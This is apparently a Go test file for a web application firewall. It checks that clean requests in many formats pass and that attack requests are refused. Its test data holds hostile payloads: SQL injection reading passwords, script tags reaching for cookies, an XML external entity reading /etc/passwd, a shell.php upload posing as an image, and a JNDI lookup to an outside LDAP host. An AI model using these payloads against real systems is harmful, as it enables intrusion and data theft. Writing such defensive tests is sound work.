package waf

import (
	"net/http"
	"strings"
	"testing"

	"github.com/moatwaf/moat/filter"
)

const (
	sqli = `1' UNION SELECT password FROM users-- -`
	xss  = `<script>alert(document.cookie)</script>`
)

// parts returns a multipart body with the boundary "x".
func parts(lines ...string) string { return strings.Join(lines, "\r\n") + "\r\n" }

// normalWeb is what today's web sends: each row passes clean, and is refused with
// each attack in it.
var normalWeb = []struct {
	name, method, contentType string
	clean                     string
	attacks                   []string
}{
	{"form", "POST", "application/x-www-form-urlencoded",
		"name=Ada+Lovelace&mail=ada%40example.com&note=It%27s+fine",
		[]string{"id=1%27+UNION+SELECT+password+FROM+users--+-", "c=%3Cscript%3Ealert(1)%3C%2Fscript%3E"}},
	{"form, PUT", "PUT", "application/x-www-form-urlencoded; charset=UTF-8", "a=1&b=2",
		[]string{"id=1%27+UNION+SELECT+password+FROM+users--+-"}},
	{"JSON", "POST", "application/json", `{"name":"Ada","tags":["a","b"],"n":3.5,"ok":true,"x":null}`,
		[]string{`{"q":"` + sqli + `"}`, `{"a":{"b":["` + xss + `"]}}`, `{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`, `{"` + xss + `":1}`}},
	{"JSON, PUT", "PUT", "application/json; charset=utf-8", `{"id":7}`, []string{`{"id":"` + sqli + `"}`}},
	{"JSON, DELETE", "DELETE", "application/json", `{"ids":[1,2,3]}`, []string{`{"ids":["` + sqli + `"]}`}},
	{"JSON after a byte order mark", "POST", "application/json", "\xef\xbb\xbf" + `{"name":"Ada"}`,
		[]string{"\xef\xbb\xbf" + `{"name":"` + xss + `"}`}},
	{"JSON scalar", "PUT", "application/json", `"published"`, []string{`"` + sqli + `"`}},
	{"JSON Patch", "PATCH", "application/json-patch+json", `[{"op":"replace","path":"/a/b","value":"x"}]`,
		[]string{`[{"op":"replace","path":"/a","value":"` + xss + `"}]`}},
	{"JSON Merge Patch", "PATCH", "application/merge-patch+json", `{"title":"Hello","tags":null}`, []string{`{"title":"` + sqli + `"}`}},
	{"JSON:API", "POST", "application/vnd.api+json", `{"data":{"type":"articles","attributes":{"title":"Rails is Omakase"}}}`,
		[]string{`{"data":{"attributes":{"title":"` + xss + `"}}}`}},
	{"vendor JSON", "POST", "application/vnd.acme.order.v2+json", `{"order":1}`, []string{`{"order":"` + sqli + `"}`}},
	{"JSON-LD", "POST", "application/ld+json", `{"@context":"https://schema.org","@type":"Person","name":"Ada"}`,
		[]string{`{"@context":"https://schema.org","name":"` + xss + `"}`}},
	{"problem", "POST", "application/problem+json", `{"type":"about:blank","title":"Not found","status":404}`, []string{`{"title":"` + sqli + `"}`}},
	{"GraphQL in JSON", "POST", "application/json",
		`{"query":"query Q($id: ID!) {\n  user(id: $id) {\n    name\n    posts(first: 10) { edges { node { title } } }\n  }\n}","variables":{"id":"42"},"operationName":"Q"}`,
		[]string{
			`{"query":"{ user { name } }","variables":{"id":"` + sqli + `"}}`,
			`{"query":"{ user(id: \"` + sqli + `\") { name } }"}`,
			`{"query":"{ user } # ` + sqli + `"}`,
			`{"query":"` + sqli + `"}`,
			`{"query":"{ user }","query":"` + sqli + `"}`,
			`{"query":"{ user }","query":"{ user(id: \"` + sqli + `\") }"}`,
		}},
	{"GraphQL, batch", "POST", "application/json", `[{"query":"{ user(id: 1) { name } }"},{"query":"mutation { like(post: 7) { count } }"}]`,
		[]string{`[{"query":"{ user }"},{"query":"{ user(id: \"` + sqli + `\") { name } }"}]`}},
	{"GraphQL", "POST", "application/graphql", "query Q($id: ID!) {\n  user(id: $id) {\n    name\n    posts(first: 10) { edges { node { title } } }\n  }\n}\n",
		[]string{
			`{ user(id: "` + sqli + `") { name } }`,
			`{ user(name: "` + xss + `") { id } }`,
			`{ user(name: "\u003cscript\u003ealert(1)\u003c/script\u003e") { id } }`,
			`{ user(name: """` + xss + `""") { id } }`,
			`{ user } union select password from users`,
		}},
	{"NDJSON", "POST", "application/x-ndjson", "{\"level\":\"info\",\"msg\":\"started\"}\n{\"level\":\"warn\",\"msg\":\"slow\"}\n",
		[]string{"{\"a\":1}\n{\"msg\":\"" + sqli + "\"}\n", "{\"a\":\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\"}\r\n{\"b\":1}"}},
	{"CSV", "PUT", "text/csv", "id,name,city\r\n1,\"Lovelace, Ada\",London\r\n2,Turing,Wilmslow\r\n",
		[]string{"id,name\r\n1," + sqli + "\r\n", "id,name\r\n1,\"" + xss + "\"\r\n"}},
	{"beacon, text", "POST", "text/plain;charset=UTF-8", "page=/checkout&t=1718000000&d=1440x900",
		[]string{"page=" + xss, "ev=1&q=" + sqli}},
	{"beacon, JSON as text", "POST", "text/plain;charset=UTF-8", `{"event":"click","url":"https://shop.example.com/a?b=c","ts":1718000000,"props":{"x":1}}`,
		[]string{`{"event":"` + sqli + `"}`, `{"event":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`}},
	{"text", "POST", "text/plain", "Dear Sir or Madam,\nI'd like to order 2 tables & a chair.\nRegards, O'Brien\n",
		[]string{"hello " + xss, sqli}},
	{"XML-RPC", "POST", "text/xml", `<?xml version="1.0"?><methodCall><methodName>blogger.getPost</methodName><params><param><value><string>42</string></value></param></params></methodCall>`,
		[]string{`<methodCall><params><param><value><string>` + sqli + `</string></value></param></params></methodCall>`}},
	{"XML", "POST", "application/xml", `<order id="7"><item>Tea</item></order>`,
		[]string{`<order id="` + sqli + `"><item>Tea</item></order>`, `<order><item><![CDATA[` + xss + `]]></item></order>`}},
	{"property list", "PUT", "application/xml", `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>a</key><string>b</string></dict></plist>`,
		[]string{`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, `<!DOCTYPE a [<!ENTITY x "` + sqli + `">]><a>&x;</a>`}},
	{"XML in Latin 1", "POST", "application/xml", "<?xml version='1.0' encoding='ISO-8859-1'?><name>Andr\xe9</name>",
		[]string{"<?xml version='1.0' encoding='ISO-8859-1'?><name>Andr\xe9 " + sqli + "</name>"}},
	{"SOAP", "POST", "application/soap+xml; charset=utf-8", `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><Get><Id>7</Id></Get></s:Body></s:Envelope>`,
		[]string{`<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><Id>` + sqli + `</Id></s:Body></s:Envelope>`}},
	{"Atom", "POST", "application/atom+xml", `<entry xmlns="http://www.w3.org/2005/Atom"><title>Hello</title><content type="text">World</content></entry>`,
		[]string{`<entry xmlns="http://www.w3.org/2005/Atom"><title>` + sqli + `</title></entry>`}},
	{"RSS", "POST", "application/rss+xml", `<rss version="2.0"><channel><title>News</title><link>https://example.com/</link></channel></rss>`,
		[]string{`<rss><channel><title>` + sqli + `</title></channel></rss>`}},
	{"CSP report", "POST", "application/csp-report", `{"csp-report":{"document-uri":"https://shop.example.com/","violated-directive":"script-src-elem","blocked-uri":"inline"}}`,
		[]string{`{"csp-report":{"document-uri":"` + sqli + `"}}`}},
	{"Reporting API", "POST", "application/reports+json", `[{"age":10,"type":"deprecation","url":"https://shop.example.com/","body":{"id":"websql"}}]`,
		[]string{`[{"body":{"id":"` + xss + `"}}]`}},
	{"multipart", "POST", "multipart/form-data; boundary=x",
		parts("--x", `Content-Disposition: form-data; name="title"`, "", "Holiday",
			"--x", `Content-Disposition: form-data; name="f"; filename="beach.jpg"`, "Content-Type: image/jpeg", "", "\xff\xd8\xff\xe0 \x00\x10JFIF", "--x--"),
		[]string{
			parts("--x", `Content-Disposition: form-data; name="title"`, "", sqli, "--x--"),
			parts("--x", `Content-Disposition: form-data; name="f"; filename="shell.php"`, "Content-Type: image/jpeg", "", "x", "--x--"),
		}},
}

func TestNormalWeb(t *testing.T) {
	s := readyStage(t)
	for _, tt := range normalWeb {
		t.Run(tt.name, func(t *testing.T) {
			if d := check(t, s, newHTTP(tt.method, "/api/items", tt.clean, "Content-Type: "+tt.contentType)); d.Verdict != filter.Continue {
				t.Errorf("clean body: %v %v %v, want continue", d.Verdict, d.Reason, d.Payload)
			}
			for _, attack := range tt.attacks {
				d := check(t, s, newHTTP(tt.method, "/api/items", attack, "Content-Type: "+tt.contentType))
				if d.Verdict != filter.Block || d.StatusCode() != http.StatusForbidden {
					t.Errorf("attack %.60q: %v %d %v, want a refusal with 403", attack, d.Verdict, d.StatusCode(), d.Payload)
				}
			}
		})
	}
}

// TestNormalRequests holds requests without an inspected body.
func TestNormalRequests(t *testing.T) {
	s := readyStage(t)
	for _, tt := range []struct {
		name string
		req  *http.Request
	}{
		{"GET", newHTTP("GET", "/search?q=tea+pots&page=2", "")},
		{"HEAD", newHTTP("HEAD", "/", "")},
		{"OPTIONS", newHTTP("OPTIONS", "/api", "", "Origin: https://app.example.com", "Access-Control-Request-Method: PUT")},
		{"DELETE without a body", newHTTP("DELETE", "/api/items/7", "")},
		{"PATCH without a body", newHTTP("PATCH", "/api/items/7", "", "Content-Length: 0")},
		{"POST without a body", newHTTP("POST", "/api/ping", "", "Content-Length: 0")},
		{"JSON type without a body", newHTTP("POST", "/api/ping", "", "Content-Length: 0", "Content-Type: application/json")},
		{"WebSocket", newHTTP("GET", "/ws", "", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")},
		{"event stream", newHTTP("GET", "/events", "", "Accept: text/event-stream", "Last-Event-ID: 42")},
		{"bearer token", newHTTP("GET", "/api", "", "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2lnbmF0dXJl")},
		{"Expect: 100-continue", newHTTP("PUT", "/upload", "data", "Content-Type: application/octet-stream", "Expect: 100-continue")},
		{"range", newHTTP("GET", "/video.mp4", "", "Range: bytes=0-1023")},
		{"conditional", newHTTP("GET", "/", "", `If-None-Match: "abc"`, "If-Modified-Since: Sun, 01 Mar 2026 12:00:00 GMT")},
		{"cookies", newHTTP("GET", "/", "", "Cookie: sid=8f14e45fceea167a5a36dedd4bea2543; theme=dark; _ga=GA1.2.123.456")},
		{"protobuf", newHTTP("POST", "/rpc", "\x0a\x03abc\x00", "Content-Type: application/x-protobuf")},
		{"protobuf, registered", newHTTP("POST", "/rpc", "\x0a\x03abc\x00", "Content-Type: application/protobuf")},
		{"gRPC", newHTTP("POST", "/pkg.Service/Call", "\x00\x00\x00\x00\x02\x08\x01", "Content-Type: application/grpc", "Te: trailers")},
		{"gRPC proto", newHTTP("POST", "/pkg.Service/Call", "\x00\x00\x00\x00\x02\x08\x01", "Content-Type: application/grpc+proto", "Te: trailers")},
		{"gRPC-Web", newHTTP("POST", "/pkg.Service/Call", "\x00\x00\x00\x00\x02\x08\x01", "Content-Type: application/grpc-web+proto", "X-Grpc-Web: 1")},
		{"octet-stream", newHTTP("PUT", "/upload/1", "\x00\x01\x02' UNION SELECT", "Content-Type: application/octet-stream")},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if d := check(t, s, tt.req); d.Verdict != filter.Continue {
				t.Errorf("%v %v %v, want continue", d.Verdict, d.Reason, d.Payload)
			}
		})
	}
}

// TestStillRefused holds what the wide defaults must not let in.
func TestStillRefused(t *testing.T) {
	s := readyStage(t)
	for _, tt := range []struct {
		name   string
		req    *http.Request
		status int
	}{
		{"TRACE", newHTTP("TRACE", "/", ""), 403},
		{"an unknown media type", newHTTP("POST", "/", "x", "Content-Type: application/x-java-serialized-object"), 403},
		{"a media type that only begins like an allowed one", newHTTP("POST", "/", "{}", "Content-Type: application/vnd.api+jsonx"), 403},
		{"a body without a type", newHTTP("POST", "/", "x"), 403},
		{"two media types", newHTTP("POST", "/", "{}", "Content-Type: application/json", "Content-Type: text/plain"), 403},
		{"an odd Expect", newHTTP("GET", "/", "", "Expect: y 100-continue"), 403},
		{"two Expect fields", newHTTP("GET", "/", "", "Expect: 100-continue", "Expect: y"), 403},
		{"a method override", newHTTP("POST", "/", "", "Content-Length: 0", "X-Http-Method-Override: DELETE"), 403},
		{"UTF-7", newHTTP("POST", "/", "a=1", "Content-Type: application/x-www-form-urlencoded; charset=utf-7"), 403},
		{"an SQL injection in the query", newHTTP("GET", "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-", ""), 403},
		{"a script in a cookie", newHTTP("GET", "/", "", "Cookie: a=<script>alert(1)</script>"), 403},
		{"a lookup in Authorization", newHTTP("GET", "/", "", "Authorization: Bearer ${jndi:ldap://198.51.100.3/a}"), 403},
		{"JSON that does not parse", newHTTP("POST", "/", `{"a":`, "Content-Type: application/json"), 400},
		{"JSON in UTF-16", newHTTP("POST", "/", "\xff\xfe{\x00}\x00", "Content-Type: application/json"), 400},
		{"NDJSON with a broken line", newHTTP("POST", "/", "{\"a\":1}\n{\"b\":\n", "Content-Type: application/x-ndjson"), 400},
		{"XML in an unknown encoding", newHTTP("POST", "/", `<?xml version="1.0" encoding="utf-7"?><a>+ADw-script+AD4-</a>`, "Content-Type: text/xml"), 400},
		{"multipart with a repeated header", newHTTP("POST", "/", parts("--x",
			`Content-Disposition: form-data; name="a"; filename="a.txt"`, `Content-Disposition: form-data; name="a"; filename="a.php"`, "", "x", "--x--"),
			"Content-Type: multipart/form-data; boundary=x"), 400},
		{"too many arguments in the query", newHTTP("GET", "/?"+strings.Repeat("a=1&", 1001), ""), 400},
		{"too many arguments in a form", newHTTP("POST", "/", strings.Repeat("a=1&", 1001), "Content-Type: application/x-www-form-urlencoded"), 400},
		{"too many values in JSON", newHTTP("POST", "/", "["+strings.Repeat("1,", 1001)+"1]", "Content-Type: application/json"), 400},
		{"too many text nodes", newHTTP("POST", "/", "<a>"+strings.Repeat("x<b/>", 1001)+"</a>", "Content-Type: text/xml"), 400},
		{"too many form parts", newHTTP("POST", "/", strings.Repeat("--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n", 1001)+"--x--\r\n",
			"Content-Type: multipart/form-data; boundary=x"), 413},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if d := check(t, s, tt.req); d.Verdict != filter.Block || d.StatusCode() != tt.status {
				t.Errorf("%v %d %v %v, want a refusal with %d", d.Verdict, d.StatusCode(), d.Reason, d.Payload, tt.status)
			}
		})
	}
}
